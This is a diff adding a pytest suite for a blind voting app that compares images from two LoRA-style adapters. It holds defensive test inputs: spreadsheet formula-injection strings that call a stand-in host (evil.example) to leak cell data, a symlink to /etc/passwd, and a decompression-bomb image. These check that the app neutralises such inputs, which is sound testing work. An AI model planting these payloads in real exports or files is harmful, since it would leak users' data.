@@ -1,0 +1,259 @@
+"""Blind votes: sides by chance, nothing lost, and a count that is the same from both sides."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import multiprocessing
+import os
+import random
+import signal
+import tempfile
+import threading
+from collections import Counter
+from dataclasses import replace
+from itertools import pairwise
+from pathlib import Path
+
+import pytest
+from PIL import Image, ImageColor, PngImagePlugin
+
+from app import vote, votes
+from app.catalog import Catalog
+from app.scored import Scored, ScoredImage, ScoredPrompt
+from app.votes import ANY, FILE, FORMULA, Ballot, Booth, Polls, Side, Tally, Vote, ballots, tallies
+from bilora_diffusion.errors import UserError
+from eval.compare import win_rate_interval
+from tests.app.folders import draw, scores_of, write, write_bomb
+
+COLORS = {"LoRA": "teal", "Bi-LoRA": "orange"}
+NOBODY = 65534
+
+
+def result(labels: tuple[str, ...] = ("LoRA", "Bi-LoRA"), prompts: int = 5) -> Scored:
+    """Scores of ``prompts`` prompts and a general one, two seeds each."""
+    texts = [*(f"icon {at}" for at in range(prompts)), "a photo"]
+    images = {
+        (label, text, seed): ScoredImage(f"images/{label}/{seed}/{text}.png", {})
+        for label in labels
+        for text in texts
+        for seed in (0, 1)
+    }
+    about = [ScoredPrompt(text, general=text == "a photo") for text in texts]
+    return scores_of(labels, about, images)
+
+
+def made(root: Path, prompts: int = 5) -> Polls:
+    """Polls of a root with one score folder."""
+    scores = result(prompts=prompts)
+    draw(scores, write(scores, root / "scores"), COLORS)
+    return Polls(Catalog(root), random.Random(0))
+
+
+def booth(number: int, session: str, left: str = "LoRA", prompt: str = "icon") -> Booth:
+    """A booth with a ballot of a pair of its own."""
+    sides = [Side(label, "aa", f"{label}.png") for label in (left, "Bi-LoRA")]
+    return Booth(session, "scores", None, 0, 1, Ballot("scores", prompt, number, *sides))
+
+
+def test_only_images_of_one_prompt_and_seed_are_paired() -> None:
+    scores = result(("c", "a", "b"), prompts=2)
+    del scores.images["b", "icon 1", 0]
+    found = ballots("scores", scores)
+    assert len(found) == 3 * 2 * 2 - 2, "general prompts are left out, and what one alone has"
+    assert {(p.left.label, p.right.label) for p in found} == {("a", "b"), ("a", "c"), ("b", "c")}
+    for one in found:
+        for side in (one.left, one.right):
+            assert side.file == f"images/{side.label}/{one.seed}/{one.prompt}.png"
+            assert side.digest == f"digest {side.label}"
+    chosen = ballots("scores", scores, ("c", "a"))
+    assert [(p.left.label, p.right.label) for p in chosen] == [("a", "c")] * 4
+
+
+def test_each_pair_comes_once_a_session_which_goes_on_where_it_ended(tmp_path: Path) -> None:
+    polls, pairs = made(tmp_path), []
+    now = polls.open("scores", ANY, "me")
+    while now.ballot is not None:
+        assert (now.done, now.total) == (len(pairs), 10)
+        pairs.append(now.ballot.pair)
+        polls.cast(now, "left")
+        polls.cast(now, "right")  # a second click changes nothing
+        now = Polls(Catalog(tmp_path), random.Random(len(pairs))).open("scores", ANY, "me")
+    assert len(set(pairs)) == len(pairs) == 10
+    assert [one.pair for one in polls.votes()] == pairs
+    assert {one.choice for one in polls.votes()} == {"left"}
+    assert vote.ballot(now) == ""
+    assert "All 10 pairs" in vote.standing(now)
+    other = polls.open("scores", ANY, "you")
+    assert (other.done, other.total) == (0, 10)
+    assert polls.cast(now, "left").ballot is None
+
+
+def test_sides_are_drawn_by_a_fair_coin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    polls, n = made(tmp_path, prompts=1), 1000
+    monkeypatch.setattr(votes, "_pixels", lambda path: b"")
+    drawn = [polls.open("scores", ANY, "me").ballot for _ in range(n)]
+    assert len({one.pair for one in drawn if one}) == 2
+    assert len({polls.open("scores", ANY, "me").token for _ in range(20)}) == 20
+    # Four standard deviations of a fair coin, for how often each side comes and how often it stays.
+    lefts = [one is not None and one.left.label == "LoRA" for one in drawn]
+    for hits in (sum(lefts), sum(one == two for one, two in pairwise(lefts))):
+        assert abs(hits - n / 2) < 4 * math.sqrt(n) / 2
+
+
+def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path: Path) -> None:
+    polls = made(tmp_path, prompts=2)
+    for path in (tmp_path / "scores").rglob("*.png"):  # as real files do, each names its adapter
+        text = PngImagePlugin.PngInfo()
+        text.add_text("parameters", path.parts[-3])
+        with Image.open(path) as image:
+            image.copy().save(path, pnginfo=text)
+    now = polls.open("scores", ANY, "me")
+    while now.ballot is not None:
+        for side, data in zip((now.ballot.left, now.ballot.right), now.images, strict=True):
+            with Image.open(io.BytesIO(data)) as shown:
+                assert shown.getpixel((0, 0)) == ImageColor.getrgb(COLORS[side.label])
+                assert not shown.info
+                assert max(shown.size) > 64, "enlarged"
+        html = vote.ballot(now) + vote.standing(now)
+        assert not [label for label in COLORS if label in html]
+        now = polls.cast(now, "left")
+    (tally,), voters = polls.result("scores", ANY)
+    assert (tally.wins + tally.losses, voters) == (4, 1)
+
+
+def test_pictures_that_cant_be_shown_do_not_end_the_vote_on_the_others(tmp_path: Path) -> None:
+    polls = made(tmp_path, prompts=2)
+    for seed, make in enumerate((write_bomb, os.mkfifo)):
+        path = tmp_path / "scores" / "images" / "LoRA" / str(seed) / "icon 0.png"
+        path.unlink()
+        make(path)
+    now = polls.open("scores", ANY, "me")
+    for _ in range(2):
+        assert now.ballot is not None
+        assert now.ballot.prompt == "icon 1"
+        now = polls.cast(now, "tie")
+    assert now.ballot is None
+
+
+def test_a_vote_counts_the_same_from_both_sides_and_not_for_weights_trained_again(
+    tmp_path: Path,
+) -> None:
+    a, b = "Bi-LoRA", "LoRA"
+    cast = [(b, a, b), (b, a, ""), (a, b, b), (a, b, ""), (a, b, a)]
+    rows = [Vote("", "", "", 0, left, right, "", won, "", "") for left, right, won in cast]
+    (tally,) = tallies(rows)
+    assert tally == Tally(a, b, wins=1, ties=2, losses=2)
+    assert (tally.rate, tally.interval) == (2 / 5, win_rate_interval(1, 2, 2))
+    assert "<b>Bi-LoRA</b> over LoRA" in vote.table([tally], 1)
+    assert "1, 2, 2" in vote.table([tally], 1)
+    polls = made(tmp_path, prompts=1)
+    now = polls.open("scores", ANY, "me")
+    assert now.ballot is not None
+    older = replace(now.ballot, left=now.ballot.left._replace(digest="older"))
+    polls.cast(replace(now, ballot=older), "left")
+    assert len(polls.votes()) == 1
+    assert polls.result("scores", ANY) == ([], 0)
+
+
+def cast_many(root: Path, session: str, count: int) -> None:
+    polls = Polls(Catalog(root), random.Random())
+    for at in range(count):
+        polls.cast(booth(at, session), ("left", "right", "tie")[at % 3])
+
+
+def test_threads_and_processes_lose_nothing(tmp_path: Path) -> None:
+    polls, fork = made(tmp_path, prompts=1), multiprocessing.get_context("fork")
+    jobs = [(tmp_path, f"voter {number}", 9) for number in range(6)]
+    workers = [threading.Thread(target=cast_many, args=job) for job in jobs[:3]]
+    workers += [fork.Process(target=cast_many, args=job) for job in jobs[3:]]
+    for worker in reversed(workers):  # processes first: no thread holds a lock at their fork
+        worker.start()
+    for worker in workers:
+        worker.join(120)
+    assert Counter(v.session for v in polls.votes()) == {name: 9 for _, name, _ in jobs}
+
+
+def cast_and_die(root: Path) -> None:
+    polls = Polls(Catalog(root), random.Random())
+    polls.cast(booth(0, "me"), "left")
+    with polls._file("written") as file:
+        file.execute("DELETE FROM votes")  # under way when the crash comes
+        os.kill(os.getpid(), signal.SIGKILL)
+
+
+def test_votes_survive_a_crash(tmp_path: Path) -> None:
+    polls = made(tmp_path, prompts=1)
+    worker = multiprocessing.get_context("fork").Process(target=cast_and_die, args=(tmp_path,))
+    worker.start()
+    worker.join(60)
+    assert [one.seed for one in polls.votes()] == [0]
+    polls.cast(booth(1, "me"), "tie")
+    assert len(polls.votes()) == 2
+
+
+def test_a_file_without_votes_is_refused_and_left_as_it_is(tmp_path: Path) -> None:
+    polls = made(tmp_path, prompts=1)
+    assert polls.votes() == []
+    assert not (tmp_path / FILE).exists(), "reading makes nothing"
+    (tmp_path / FILE).write_text("not a database, but long enough to look at" * 30)
+    before = (tmp_path / FILE).read_bytes()
+    for act in (polls.votes, lambda: polls.open("scores", ANY, "me")):
+        with pytest.raises(UserError, match=FILE):
+            act()
+    assert (tmp_path / FILE).read_bytes() == before
+    (tmp_path / FILE).unlink()
+    (tmp_path / FILE).symlink_to("/etc/passwd")
+    with pytest.raises(UserError, match="out of the root"):
+        polls.open("scores", ANY, "me")
+
+
+def in_closed_folder(root: Path, answers: multiprocessing.Queue[str]) -> None:
+    if os.getuid() == 0:  # root may write everywhere
+        os.setuid(NOBODY)
+    polls = Polls(Catalog(root), random.Random())
+    answers.put(f"{len(polls.votes())} read")
+    for act in (lambda: polls.open("scores", ANY, "me"), lambda: polls.cast(booth(2, "me"), "tie")):
+        try:
+            act()
+            answers.put("written")
+        except UserError as error:
+            answers.put(str(error))
+
+
+def test_a_read_only_folder_is_read_but_refused_for_votes() -> None:
+    fork = multiprocessing.get_context("fork")
+    answers = fork.Queue()
+    # Outside pytest's own folders, which are private.
+    with tempfile.TemporaryDirectory(prefix="bilora-votes-") as name:
+        folder = Path(name)
+        made(folder, prompts=1).cast(booth(1, "me"), "left")
+        (folder / FILE).chmod(0o444)
+        folder.chmod(0o555)
+        worker = fork.Process(target=in_closed_folder, args=(folder, answers))
+        worker.start()
+        read, *refused = [answers.get(timeout=60) for _ in range(3)]
+        worker.join(60)
+        folder.chmod(0o755)
+    assert read == "1 read"
+    for sentence in refused:
+        assert sentence.startswith(f"{FILE} can't be written")
+        assert name not in sentence
+
+
+def test_the_csv_file_has_a_row_a_vote_and_no_formulas(tmp_path: Path) -> None:
+    polls, odd = made(tmp_path, prompts=1), 'a "ToK", icon\nof two lines'
+    polls.cast(booth(7, "me", prompt=odd), "tie")
+    formulas = [f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")' for begin in FORMULA]
+    for number, words in enumerate(formulas):
+        polls.cast(booth(number, words, left=words, prompt=words), "left")
+    with polls.export(tmp_path / "files").open(encoding="utf-8", newline="") as file:
+        head, first, *rows = csv.reader(file)
+    columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,session"
+    assert ",".join(head) == columns
+    assert first[1:] == ["scores", odd, "7", "LoRA", "Bi-LoRA", "tie", "", "me"]
+    for number, (words, row) in enumerate(zip(formulas, rows, strict=True)):
+        inert = f"'{words}"
+        expected = ["scores", inert, str(number), inert, "Bi-LoRA", "left", inert, inert]
+        assert row[1:] == expected
